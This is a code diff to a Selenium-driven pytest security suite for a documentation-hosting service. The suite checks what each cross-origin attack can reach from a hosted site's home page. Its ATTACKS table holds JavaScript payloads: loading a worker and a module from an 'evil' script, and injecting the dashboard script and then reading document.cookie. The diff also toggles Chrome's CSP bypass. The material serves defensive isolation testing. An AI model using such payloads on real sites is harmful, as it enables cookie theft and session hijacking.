@@ -150,7 +150,7 @@ ATTACKS = {
         "const w = new Worker(`${B}/evil.js`); return await new Promise((done) => {"
         " w.onmessage = (e) => done(e.data); w.onerror = () => done(''); setTimeout(done, 800) })"
     ),
-    "module": "await import(`${B}/evil.mjs`); return document.documentElement.dataset.ran",
+    "module": "await import(`${B}/evil.js`); return document.documentElement.dataset.ran",
     "script of the dashboard": (
         "const s = document.createElement('script'); s.src = D; document.head.append(s);"
         " await pause(300); return document.cookie"
@@ -233,7 +233,7 @@ def away() -> Iterator[str]:
 def repository(tmp_path_factory: pytest.TempPathFactory, away: str) -> ReviewRepository:
     made = ReviewRepository.made(tmp_path_factory.mktemp("origins") / "evil.git")
     base = "/_sites/docstead"
-    script = f"{RAN}\nself.postMessage?.(String(self.origin));\n"
+    script = f"if (self.document) {RAN}\nelse self.postMessage?.(String(self.origin));\n"
     scripts = SCRIPTS.replace("BASE", base).replace("RAN", RAN)
     files = {
         "docs.json": json.dumps(SETTINGS),
@@ -323,7 +323,13 @@ def script(window: webdriver.Chrome, text: str) -> Any:
 
 
 def run(window: webdriver.Chrome, hosts: Hosts) -> dict[str, str]:
-    """What each attack gets hold of when a script of the site's home page tries it."""
+    """What each attack gets hold of when a script of the site's home page tries it.
+
+    At its own host a repository could replace the policy of its pages, with a service worker
+    for instance, so nothing may depend on that policy there: it is switched off.
+    """
+    is_own = "/_sites/" not in hosts.site
+    window.execute_cdp_cmd("Page.setBypassCSP", {"enabled": is_own})
     window.get(f"{hosts.site}/")
     functions = (f"{name!r}: async () => {{ {text} }}" for name, text in ATTACKS.items())
     body = HELPERS.replace("ATTACKS", ",\n".join(functions))
@@ -332,6 +338,7 @@ def run(window: webdriver.Chrome, hosts: Hosts) -> dict[str, str]:
         window.switch_to.window(extra)
         window.close()
     window.switch_to.window(window.window_handles[0])
+    window.execute_cdp_cmd("Page.setBypassCSP", {"enabled": False})
     return found
 
 
